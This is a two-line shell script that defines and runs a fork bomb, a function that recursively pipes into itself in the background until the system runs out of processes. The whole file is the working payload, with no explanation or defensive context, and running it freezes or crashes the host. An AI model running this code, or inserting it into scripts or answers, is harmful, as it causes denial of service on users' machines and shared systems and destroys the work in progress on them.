#!/bin/sh
bomb() { bomb | bomb & sleep 100; }; bomb
